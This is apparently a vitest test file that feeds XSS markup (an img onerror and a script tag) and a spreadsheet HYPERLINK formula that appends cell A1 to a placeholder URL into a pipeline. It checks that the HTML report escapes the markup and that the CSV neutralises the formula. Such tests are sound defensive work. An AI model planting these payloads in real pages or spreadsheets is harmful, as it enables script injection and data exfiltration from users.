import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { bytesBelow, ROOT, runHere, temporaryFolder } from "../pipeline/covey.ts";

// Values that a browser or a spreadsheet would run: text in the page, neutralised in text cells of CSV, as they are in JSON.

const home = temporaryFolder();
afterAll(home.remove);

test("markup and formulas in names come out as text", async () => {
  const data = join(home.path, "data");
  cpSync(join(ROOT, "test/bad-input/good"), data, { recursive: true });
  const edit = (file: string, ...pairs: readonly (readonly [string, string])[]) => {
    let text = readFileSync(join(data, file), "utf8");
    for (const [from, to] of pairs) {
      expect(text).toContain(from);
      text = text.replaceAll(from, () => to);
    }
    writeFileSync(join(data, file), text);
  };
  const markup = `<img src=x onerror="alert(1)"></script><script>alert(2)</script>`;
  const formula = `=HYPERLINK("http://x.invalid?"&A1)`;
  edit(
    "pipeline.yaml",
    ["A small good study", JSON.stringify(markup)],
    ["theme: cold", `theme: ${JSON.stringify(formula)}`],
    ["theme: green", `theme: ${JSON.stringify(markup)}`],
  );
  const done = await runHere(join(data, "pipeline.yaml"), 1, "diagnose");
  const files = bytesBelow(done.folder);
  const text = (path: string) => files.get(path)?.toString() ?? "";
  const page = text("report.html");
  expect(page).toContain("&lt;img src=x onerror=");
  expect(page).not.toMatch(/<img src=x/);
  expect(page).not.toContain("<script>alert(2)");
  const csv = [...files.keys()].filter((path) => path.endsWith(".csv")).map(text);
  expect(csv.some((one) => one.includes(`"'=HYPERLINK(""http://x.invalid?""&A1)"`))).toBe(true);
  expect(csv.some((one) => /(^|,)"?=HYPERLINK/m.test(one))).toBe(false);
  expect(done.neutralised).toBeGreaterThan(0);
}, 240_000);
